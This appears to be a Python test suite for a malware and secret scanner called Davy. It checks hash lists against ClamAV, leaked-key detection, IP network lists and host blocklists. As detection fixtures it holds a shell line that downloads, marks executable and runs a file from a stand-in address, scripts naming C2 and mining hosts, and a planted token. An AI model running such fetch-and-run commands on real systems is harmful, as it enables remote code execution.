# SPDX-License-Identifier: Apache-2.0
"""Lists that people own, beside the programs they were made for: ClamAV's signatures against clamscan and sigtool, networks
against Python's ipaddress, and category lists on images from end to end."""
import hashlib
import ipaddress
import json
import os
import pathlib
import random
import shutil
import subprocess
import sys
import tarfile
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).parent))
import images
import imitations
from test_scan import Scratch, davy, findings, scan

# Public lists of the tests; absent elsewhere.
LISTS = pathlib.Path(os.environ.get('DAVY_TEST_DATA', pathlib.Path(__file__).resolve().parents[3] / 'shared/data')) / 'lists'
HASHES = {'md5': hashlib.md5, 'sha1': hashlib.sha1, 'sha256': hashlib.sha256}


def rules_of(target):
    return {f['rule'] for f in findings(target)}


def names_of(target, rule):
    """Path → names of the lists, of findings of that rule."""
    found = {}
    for f in findings(target):
        if f['rule'] == rule:
            names = next(x['text'] for x in f['fields'] if x['name'] == 'file.listed')
            for path in [f['subject']['name'], *f.get('also', [])]:
                found[path] = (names, f['output'])
    return found


class Files(Scratch):
    """A folder of files of many sizes, and lists made of them."""

    def setUp(self):
        super().setUp()
        self.folder = self.temp / 'files'
        self.folder.mkdir()
        chance = random.Random(7)
        self.content = {}
        for i in range(40):
            size = chance.choice([1, 2, 100, 4096, 65536, 300000]) + chance.randrange(50)
            data = b'DAVY TEST IMITATION %d ' % i + chance.randbytes(size)
            (self.folder / f'f{i:02}').write_bytes(data)
            self.content[f'f{i:02}'] = data

    def listed(self, *arguments):
        report, _ = scan('--no-shipped-lists', '--fail-on', 'none', *arguments, self.folder)
        return report

    def by_name(self, report, rule='File on a list of known bad files'):
        return {pathlib.PurePath(p).name: output.split(' by ')[0].strip('()')
                for p, (_, output) in names_of(report['targets'][0], rule).items()}


class Leaked(Scratch):
    """Hashes of keys and tokens, made by the programs that people make them with."""
    TOKEN = 'ghp_' + 'zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17'

    def run_it(self, *command, data=None):
        return subprocess.run(command, input=data, stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=True, cwd=self.temp).stdout

    def found(self, *arguments):
        report, _ = scan('--no-feed', '--fail-on', 'none', *arguments, self.temp / 'files')
        self.assertNotIn(self.TOKEN, json.dumps(report))
        return {path.rpartition('/')[2] for f in findings(report['targets'][0]) if f['rule'] == 'Secret that others are known to have'
                for path in [f['subject']['name'], *f.get('also', [])]}

    @unittest.skipUnless(shutil.which('ssh-keygen') and shutil.which('openssl'), 'needs ssh-keygen and openssl')
    def test_keys_and_tokens(self):
        (self.temp / 'files').mkdir()
        for name, kind in (('ed25519', ('-t', 'ed25519')), ('encrypted', ('-t', 'ed25519')), ('rsa', ('-t', 'rsa', '-b', '2048', '-m', 'PEM')),
                           ('another', ('-t', 'ed25519'))):
            self.run_it('ssh-keygen', '-q', *kind, '-N', 'DAVY' if name == 'encrypted' else '', '-f', self.temp / name)
            shutil.copy(self.temp / name, self.temp / 'files')
        self.run_it('openssl', 'genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256', '-out', self.temp / 'files/ec.pem')
        (self.temp / 'files/env').write_text(f'GITHUB_TOKEN={self.TOKEN}\n')
        public = self.run_it('openssl', 'pkey', '-in', self.temp / 'files/ec.pem', '-pubout', '-outform', 'DER')
        lists = self.temp / 'lists'
        lists.mkdir()
        (lists / 'keys.txt').write_bytes(b''.join(self.run_it('ssh-keygen', '-lf', self.temp / f'{name}.pub') for name in ('ed25519', 'encrypted', 'rsa')))
        (lists / 'certificates.sha256').write_text(hashlib.sha256(public).hexdigest() + '\n')
        (lists / 'passwords.txt').write_text(hashlib.sha1(self.TOKEN.encode()).hexdigest().upper() + ':7\n')
        self.assertEqual(self.found(), set())
        self.assertEqual(self.found('--leaked', lists), {'ed25519', 'encrypted', 'rsa', 'ec.pem', 'env'})
        self.assertEqual(self.found('--leaked', lists / 'passwords.txt'), {'env'})
        # no list of secrets makes a file known, and the other way round
        whole = self.temp / 'whole.txt'
        whole.write_text(hashlib.sha256((self.temp / 'files/env').read_bytes()).hexdigest())
        self.assertEqual(self.found('--leaked', whole), set())
        self.assertEqual(self.found('--hashes', lists / 'certificates.sha256'), set())

    def test_a_feed_of_them(self):
        (self.temp / 'files').mkdir()
        (self.temp / 'files/env').write_text(f'GITHUB_TOKEN={self.TOKEN}\n')
        feed, digest = self.temp / 'feed.db', hashlib.sha256(self.TOKEN.encode()).hexdigest()
        davy('feed', 'add', '--feed', feed, '--type', 'secret', '--reason', 'seen on a forum', digest)
        report, _ = scan('--fail-on', 'none', '--feed', feed, self.temp / 'files')
        finding = next(f for f in findings(report['targets'][0]) if f['rule'] == 'Secret that others are known to have')
        self.assertIn('seen on a forum', json.dumps(finding))
        # programs that compare digests with files are not given it unasked
        self.assertEqual(davy('feed', 'export', '--feed', feed).stdout.strip(), b'')
        self.assertEqual(davy('feed', 'export', '--feed', feed, '--format', 'clamav').stdout.strip(), b'')
        self.assertEqual(davy('feed', 'export', '--feed', feed, '--type', 'secret').stdout.decode().strip(), digest)


@unittest.skipUnless(shutil.which('clamscan') and shutil.which('sigtool'), 'needs clamscan and sigtool')
class AgainstClamav(Files):
    def clamscan(self, *databases):
        command = ['clamscan', '--no-summary', '--infected', '--stdout', *[f'--database={d}' for d in databases], self.folder]
        out = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        self.assertIn(out.returncode, (0, 1), out.stderr)
        found = {}
        for line in out.stdout.splitlines():
            path, _, name = line.rpartition(': ')
            found[pathlib.PurePath(path).name] = name.removesuffix(' FOUND').removesuffix('.UNOFFICIAL')
        return found

    def sigtool(self, kind, name):
        out = subprocess.run(['sigtool', f'--{kind}', self.folder / name], stdout=subprocess.PIPE, text=True, check=True)
        return out.stdout.strip()

    def compare(self, *databases):
        arguments = [x for d in databases for x in ('--hashes', d)]
        mine, theirs = self.by_name(self.listed(*arguments)), self.clamscan(*databases)
        self.assertEqual(mine, theirs)
        return mine

    def test_signatures_that_sigtool_makes(self):
        for kind, ending in (('md5', 'hdb'), ('sha1', 'hsb'), ('sha256', 'hsb')):
            with self.subTest(kind):
                database = self.temp / f'{kind}.{ending}'
                lines = [self.sigtool(kind, f'f{i:02}') for i in range(0, 40, 3)]
                self.assertTrue(all(line.count(':') >= 2 for line in lines), lines)
                database.write_text('\n'.join(lines) + '\n')
                self.assertEqual(len(self.compare(database)), 14)

    def test_sizes_wildcards_and_levels(self):
        rows = []
        for i, (name, data) in enumerate(self.content.items()):
            digest = hashlib.sha256(data).hexdigest() if i % 2 else hashlib.sha1(data).hexdigest()
            size, level = [(len(data), ''), (len(data) + 1, ''), ('*', ':73'), (len(data), ':51:99'), (len(data), ':73:255'),
                           (len(data), ':9999')][i % 6]
            rows.append(f'{digest}:{size}:Davy.Test.{name}{level or ":73"}')
        database = self.temp / 'x.hsb'
        database.write_text('\n'.join(rows) + '\n')
        found = self.compare(database)
        self.assertTrue(10 < len(found) < 30, found)

    def test_allow_lists_are_honoured(self):
        names = list(self.content)
        bad, allow, allow256 = self.temp / 'bad.hdb', self.temp / 'good.fp', self.temp / 'good.sfp'
        row = '{}:{}:Davy.Test.{}'.format
        bad.write_text(''.join(row(hashlib.md5(self.content[n]).hexdigest(), len(self.content[n]), n) + '\n' for n in names))
        self.assertEqual(len(self.compare(bad)), len(names))
        allow.write_text(''.join(row(hashlib.md5(self.content[n]).hexdigest(), len(self.content[n]), n) + '\n' for n in names[:7]))
        allow256.write_text(''.join(row(hashlib.sha256(self.content[n]).hexdigest(), len(self.content[n]), n) + ':73\n'
                                    for n in names[7:12]))
        self.assertEqual(set(self.compare(bad, allow, allow256)), set(names[12:]))


class DigestLists(Files):
    def test_unwanted_and_plain_forms(self):
        data = list(self.content.items())
        one = self.temp / 'pua.hdu'
        one.write_text(f'{hashlib.md5(data[0][1]).hexdigest()}:{len(data[0][1])}:PUA.Tool\n')
        self.assertEqual(self.by_name(self.listed('--hashes', one), 'Unwanted file on a list'), {'f00': 'PUA.Tool'})
        sums = subprocess.run(['sha256sum', *sorted(self.folder.iterdir())[:5]], stdout=subprocess.PIPE, check=True).stdout
        plain = self.temp / 'sums'
        plain.write_bytes(sums)
        self.assertEqual(set(self.by_name(self.listed('--hashes', plain))), {f'f{i:02}' for i in range(5)})

    def test_rows_of_a_feed(self):
        name, data = next(iter(self.content.items()))
        digest = 'sha256:' + hashlib.sha256(data).hexdigest()
        row = {'digest': digest, 'type': 'file', 'reason': 'mines', 'source': 'acme', 'first_seen': '2026-01-01'}
        feed = self.temp / 'feed.jsonl'
        for expiry, rule in (('2500-01-01', 'File on a list of known bad files'), ('2020-01-01', 'File on an expired list')):
            feed.write_text(json.dumps({**row, 'expiry': expiry}) + '\n')
            report = self.listed('--hashes', feed)
            self.assertEqual(rules_of(report['targets'][0]) & {'File on a list of known bad files', 'File on an expired list'}, {rule})
            self.assertIn('acme', [f['output'] for f in findings(report['targets'][0]) if f['rule'] == rule][0])

    def test_member_of_an_archive(self):
        text = b'DAVY TEST IMITATION of a listed member\n'
        inner = self.temp / 'member.txt'
        inner.write_bytes(text)
        with tarfile.open(self.folder / 'packed.tar', 'w') as tar:
            tar.add(inner, 'member.txt')
        database = self.temp / 'm.hdb'
        database.write_text(f'{hashlib.md5(text).hexdigest()}:{len(text)}:Davy.Member\n')
        self.assertEqual(self.by_name(self.listed('--hashes', database)), {'packed.tar!member.txt': 'Davy.Member'})

    def test_wrong_lines_are_said_once_and_wrong_files_stop(self):
        database = self.temp / 'x.hdb'
        digest = hashlib.md5(b'x').hexdigest()
        database.write_text(f'{digest}:1:A\nnonsense\n')
        result = davy('scan', '--hashes', database, self.folder)
        self.assertEqual(result.stderr.decode().count('1 line is not understood and left out (line 2: '), 1, result.stderr)
        self.assertIn(b'1 listed digest', result.stdout)
        database.write_text('nonsense\n')
        result = davy('scan', '--hashes', database, self.folder)
        self.assertEqual(result.returncode, 3)
        self.assertIn(b'x.hdb: holds no digest', result.stderr)
        for wrong in ('mining', '=x', 'mining='):
            result = davy('scan', '--list', wrong, self.folder)
            self.assertEqual(result.returncode, 2)
            self.assertIn(b'CATEGORY=FILE', result.stderr)


class Networks(Scratch):
    def test_against_ipaddress(self):
        chance = random.Random(11)
        nets, probes = set(), []
        for _ in range(400):
            bits, version = (32, 4) if chance.random() < 0.6 else (128, 6)
            prefix = chance.randrange(8, bits + 1)
            # public addresses only: Davy does not tell private ones
            base = (chance.randrange(11, 99) << 24 if version == 4 else 0x2a00 << 112) | chance.getrandbits(bits - 16)
            nets.add(ipaddress.ip_network((base, prefix), strict=False))
        nets = [n for n in nets if n.version == 6 or not n.overlaps(ipaddress.ip_network('100.64.0.0/10'))]
        for net in chance.sample(sorted(nets, key=str), 100):
            for edge in (int(net[0]) - 1, int(net[0]), int(net[-1]), int(net[-1]) + 1):
                probes.append((ipaddress.IPv4Address if net.version == 4 else ipaddress.IPv6Address)(edge))
        listing = self.temp / 'x.netset'
        listing.write_text('\n'.join(map(str, nets)) + '\n')
        folder = self.temp / 'files'
        folder.mkdir()
        wanted = set()
        for i, probe in enumerate(probes):
            shown = f'[{probe}]' if probe.version == 6 else str(probe)
            (folder / f'p{i:03}.sh').write_text(f'#!/bin/sh\n# DAVY TEST IMITATION {i}\ncurl http://{shown}:8080/x\n')
            if probe.is_global and any(probe in n for n in nets if n.version == probe.version):
                wanted.add(f'p{i:03}.sh')
        report, _ = scan('--no-shipped-lists', '--fail-on', 'none', '--list', f'acme={listing}', folder)
        found = {pathlib.PurePath(f['subject']['name']).name for f in findings(report['targets'][0])
                 if f['rule'] == 'Name on a list of your own'}
        self.assertGreater(len(wanted), 150)
        self.assertEqual(found, wanted)


class Names(Scratch):
    """What a listed name does in a script, a document and a list."""

    def folder(self, files):
        folder = self.temp / 'root'
        for path, text in files.items():
            target = folder / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text)
        return folder

    def list(self, name, lines):
        path = self.temp / name
        path.write_text('\n'.join(lines) + '\n')
        return path

    def run_on(self, files, *arguments):
        report, code = scan('--fail-on', 'none', *arguments, self.folder(files))
        return report['targets'][0]

    SCRIPT = '#!/bin/sh\n# DAVY TEST IMITATION\ncurl -s http://{}/x\n'

    def test_weight_follows_what_the_file_does(self):
        mining = self.list('p.txt', ['pool.listed.example'])
        target = self.run_on({'opt/run.sh': self.SCRIPT.format('eu.pool.listed.example'),
                              'srv/readme.md': 'People mine at https://pool.listed.example/ these days.\n'}, '--list', f'mining={mining}')
        by_path = {f['subject']['name']: f['rule'] for f in findings(target)}
        self.assertEqual(by_path['/opt/run.sh'], 'Program or script names a mining host')
        self.assertEqual(by_path['/srv/readme.md'], 'Listed host in a document')
        self.assertEqual(target['verdict']['word'], 'suspicious')
        (finding,) = [f for f in findings(target) if f['subject']['name'] == '/opt/run.sh']
        (note,) = [n for n in finding['notes'] if n['field'] == 'content.listed']
        self.assertEqual((note['value'], note['line']), ('eu.pool.listed.example (mining)', 3))

    def test_a_list_of_listed_names_is_quiet(self):
        hosts = [f'h{i}.listed.example' for i in range(500)]
        bad = self.list('bad.txt', hosts)
        for path, text in {'etc/hosts': '127.0.0.1 localhost\n0.0.0.0 h1.listed.example\n',
                           'usr/share/ads/hosts.txt': ''.join(f'0.0.0.0 {h}\n' for h in hosts),
                           'usr/share/ads/block.sh': '#!/bin/sh\n' + ''.join(f'iptables -A OUTPUT -d {h} -j DROP\n' for h in hosts[:40]),
                           'usr/share/ads/rules.json': json.dumps({'rules': [f'https://{h}/' for h in hosts]}),
                           'srv/one.md': 'see https://h7.listed.example/\n'}.items():
            with self.subTest(path):
                shutil.rmtree(self.temp / 'root', ignore_errors=True)
                target = self.run_on({path: text}, '--list', f'malware={bad}')
                self.assertEqual(findings(target, 'notice'), [])
                self.assertEqual(target['verdict']['word'], 'clean')

    def test_a_name_behind_many_others_is_found(self):
        bad = self.list('bad.txt', ['needle.listed.example'])
        text = ''.join(f'curl http://h{i}.honest.example/\n' for i in range(3000)) + 'curl http://needle.listed.example/\n'
        target = self.run_on({'opt/run.sh': '#!/bin/sh\n' + text}, '--list', f'malware={bad}')
        self.assertIn('Program or script names a malicious host', rules_of(target))

    def test_dynamic_dns_is_context_alone_and_counts_beside_others(self):
        alone = self.run_on({'opt/run.sh': self.SCRIPT.format('davy-test-imitation.no-ip.org')})
        self.assertEqual(rules_of(alone), {'Name in a dynamic DNS zone'})
        self.assertEqual((alone['verdict']['word'], alone['verdict']['intent']['evidence']), ('clean', []))
        beside = self.run_on({'opt/run.sh': self.SCRIPT.format('davy-test-imitation.no-ip.org'),
                              'tmp/get.sh': '#!/bin/sh\n# DAVY TEST IMITATION\ncurl -s http://203.0.114.7/a -o /tmp/a; chmod +x /tmp/a; /tmp/a\n'})
        self.assertEqual(beside['verdict']['word'], 'unwanted', rules_of(beside))
        by_id = {f['id']: f['rule'] for f in findings(beside)}
        self.assertIn('Name in a dynamic DNS zone', {by_id[i] for i in beside['verdict']['intent']['evidence']})
        without = self.run_on({}, '--no-shipped-lists')
        self.assertNotIn('Name in a dynamic DNS zone', rules_of(without))

    def test_folders_manifests_and_expiry(self):
        folder = self.temp / 'lists'
        folder.mkdir()
        (folder / 'a.phishing.txt').write_text('# expires: 2020-01-31\na.listed.example\n')
        (folder / 'b.mining.zone').write_text('$ORIGIN rpz.\nb.listed.example CNAME .\n')
        files = {'opt/a.sh': self.SCRIPT.format('a.listed.example'), 'opt/b.sh': self.SCRIPT.format('b.listed.example')}
        root = self.folder(files)
        report, _ = scan('--fail-on', 'none', '--lists', folder, root)
        self.assertEqual(rules_of(report['targets'][0]), {'Program or script names a mining host'})
        self.assertEqual(report['rules']['expired'], [{'list': str(folder / 'a.phishing.txt'), 'day': '2020-01-31'}])
        screen = davy('scan', '--lists', folder, root).stdout.decode()
        self.assertEqual(screen.count('good until 2020-01-31'), 1, screen)
        (folder / 'lists.toml').write_text('[[list]]\nfile = "a.phishing.txt"\ncategory = "mining"\nexpires = 2500-01-01\n')
        report, _ = scan('--fail-on', 'none', '--lists', folder, root)
        self.assertEqual({f['subject']['name'] for f in findings(report['targets'][0])}, {'/opt/a.sh'})

    def test_a_list_of_a_rule_file_past_its_day_is_context(self):
        rules = self.temp / 'rules.yaml'
        text = ('- list: hosts\n  source: acme\n  expires: {}\n  items: [x.listed.example]\n'
                '- rule: Names a host\n  desc: d\n  source: scan\n  condition: evt.type = file and content.domains intersects (hosts)\n'
                '  output: o\n  priority: ERROR\n  tags: [kind:threat, axis:intent, by:name]\n')
        for day, verdict, code in (('2500-01-01', 'suspicious', 1), ('2020-01-01', 'clean', 0)):
            rules.write_text(text.format(day))
            report, exit_code = scan('--rules', rules, self.folder({'opt/a.sh': self.SCRIPT.format('x.listed.example')}))
            self.assertEqual((report['targets'][0]['verdict']['word'], exit_code), (verdict, code), day)
        self.assertEqual(report['rules']['expired'], [{'list': f'{rules}: hosts', 'day': '2020-01-01'}])
        result = davy('rules', 'check', rules)
        self.assertEqual(result.returncode, 0)
        self.assertIn(b'good until 2020-01-01: what is found through it counts as context [LOAD_EXPIRED_LIST]', result.stdout)

    @unittest.skipUnless(LISTS.is_dir(), 'the public lists are not here')
    def test_public_lists_load_whole(self):
        trail = LISTS / 'maltrail_dynamic_domain.txt'
        lines = {line.strip() for line in trail.read_text().splitlines() if line.strip() and not line.startswith('#')}
        report, _ = scan('--no-shipped-lists', '--list', f'dynamic-dns={trail}', self.folder({'a': 'x'}))
        self.assertEqual(report['rules']['listed_names'], len(lines))
        for path in sorted(LISTS.glob('misp_*.json')):
            with self.subTest(path.name):
                result = davy('scan', '-f', 'json', '--no-shipped-lists', '--list', f'x={path}', self.folder({'a': 'x'}))
                entries = set(json.loads(path.read_text())['list'])
                odd = {e for e in entries if '.' not in e and ':' not in e}
                self.assertEqual(json.loads(result.stdout)['rules']['listed_names'], len(entries - odd), result.stderr)
                self.assertEqual(b'not understood' in result.stderr, bool(odd), result.stderr)

    @unittest.skipUnless(LISTS.is_dir(), 'the public lists are not here')
    def test_popular_names_are_never_loud(self):
        popular = LISTS / 'misp_cloudflare-top1k.json'
        names = [n for n in json.loads(popular.read_text())['list'] if '.' in n]
        files = {f'opt/{i}.sh': self.SCRIPT.format(n) for i, n in enumerate(names[::10])}
        files['opt/all.sh'] = '#!/bin/sh\n' + ''.join(f'curl https://{n}/\n' for n in names)
        with_list = self.run_on(files, '--list', f'popular={popular}')
        without = self.run_on(files)
        self.assertEqual(rules_of(with_list), rules_of(without))
        self.assertEqual(findings(with_list, 'notice'), [])


@unittest.skipIf(images.missing_tools(), f'tools are missing: {images.missing_tools()}')
@unittest.skipIf(os.geteuid(), 'umoci needs root here')
class Images(Scratch):
    def test_three_levels_of_digests(self):
        image = images.benign(self.temp)
        report, code = scan(image.layout)
        target = report['targets'][0]
        self.assertEqual((code, target['verdict']['word']), (0, 'clean'))
        config = json.loads((image.layout / 'blobs/sha256' / target['config_digest'][7:]).read_text())
        for level, digest in {'manifest': target['digest'], 'configuration': target['config_digest'],
                              'layer': target['layers'][1]['digest'], 'unpacked layer': config['rootfs']['diff_ids'][0]}.items():
            with self.subTest(level):
                feed = self.temp / 'feed.csv'
                feed.write_text(f'digest,type,reason,source,first_seen,expiry\n{digest},layer,it mines,acme,2026-01-01,2500-01-01\n')
                report, code = scan('--hashes', feed, image.layout)
                listed = [f for f in findings(report['targets'][0]) if f['rule'] == 'Image on a list of known bad images']
                self.assertEqual((code, report['targets'][0]['verdict']['word'], len(listed)), (1, 'malicious', 1))
                self.assertIn('it mines by acme', listed[0]['output'].replace('(', '').replace(')', ''))

    def test_lists_that_change_are_asked_again(self):
        """What is known of a layer from an earlier scan was found under other lists."""
        image = images.benign(self.temp)
        cache = {'XDG_CACHE_HOME': str(self.temp / 'cache')}
        text = (image.root / 'usr/share/doc/readme.txt').read_bytes()
        feed = self.temp / 'feed.hdb'
        for digest, expected in ((b'another', False), (text, True), (b'another', False)):
            feed.write_text(f'{hashlib.md5(digest).hexdigest()}:{len(digest)}:Davy.Test\n')
            report, _ = scan('--fail-on', 'none', '--hashes', feed, image.layout, env=cache)
            self.assertEqual('File on a list of known bad files' in rules_of(report['targets'][0]), expected)

    def test_settings_that_name_a_listed_host(self):
        image = images.benign(self.temp)
        image.config('--config.env', 'UPSTREAM=http://c2.listed.example:8080/')
        bad = self.temp / 'bad.txt'
        bad.write_text('c2.listed.example\n')
        report, code = scan('--list', f'c2={bad}', image.layout)
        self.assertIn('Image that names a malicious or mining host', rules_of(report['targets'][0]))
        self.assertEqual((code, report['targets'][0]['verdict']['word']), (1, 'suspicious'))


if __name__ == '__main__':
    unittest.main(verbosity=2)
